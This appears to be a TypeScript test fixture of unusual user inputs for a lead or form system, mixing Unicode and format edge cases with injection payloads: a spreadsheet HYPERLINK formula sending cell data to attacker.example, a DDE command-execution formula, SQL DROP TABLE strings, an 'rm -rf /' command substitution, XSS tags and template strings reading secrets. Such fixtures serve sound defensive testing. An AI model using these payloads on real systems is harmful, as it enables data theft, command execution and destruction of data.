/** Texts that people type, also to break something; each is an answer somewhere in the world. */

/** Texts that a spreadsheet would treat as formulas. */
export const FORMULA_LIKE_TEXTS = [
	'=HYPERLINK("https://attacker.example/?x="&A1,"Click me")',
	'+1',
	'-2+3',
	'@x',
	'=1+1',
	'+49 30 1234567',
	'\t=2+2',
	"=cmd|' /C calc'!A0",
];

const INJECTION_TEXTS = [
	"Robert'); DROP TABLE leads;--",
	'"; DROP TABLE leads; --',
	'`rm -rf /`; echo `done`',
	'<script>alert("lead")</script>',
	'<img src=x onerror=alert(1)>',
	'{{ $json.secret }}',
	'={{ $env.SECRET }}',
	'${7*7} $1 \\1 %s %27',
	'back\\slash \\n \\\\ end',
	'O\'Brien said "hi"; then `left`',
];

const SCRIPT_TEXTS = [
	'Grüße aus Zürich, ça va ? Łódź, smörgåsbord',
	'Хочу узнать больше о вашей продукции',
	'御社の製品について詳しく知りたいです',
	'أود معرفة المزيد عن منتجاتكم',
	'שלום עולם',
	'ขอข้อมูลเพิ่มเติม',
	'🎉👩‍👩‍👧‍👦🏳️‍🌈 great!',
	'e\u0301 and é are not the same bytes',
	'right \u202Eto left\u202C override',
	'zero\u200Bwidth\uFEFF',
];

const SHAPE_TEXTS = [
	'two\nlines\r\nand\ta tab',
	'  leading and trailing  ',
	'null',
	'NULL',
	'undefined',
	'true',
	'0',
	'-0',
	'007',
	'1e5',
	'7249812613549670401',
	'2026-02-30',
	'[1,2,3]',
	'{"answer":"json"}',
	'a,b;c|d',
];

export const WILD_TEXTS = [
	...FORMULA_LIKE_TEXTS,
	...INJECTION_TEXTS,
	...SCRIPT_TEXTS,
	...SHAPE_TEXTS,
];

/** A text of this length in several scripts. */
export function longText(length: number): string {
	const sentence = 'A very long answer – очень длинный ответ – とても長い回答 – إجابة طويلة جدا. ';
	return sentence.repeat(Math.ceil(length / sentence.length)).slice(0, length);
}
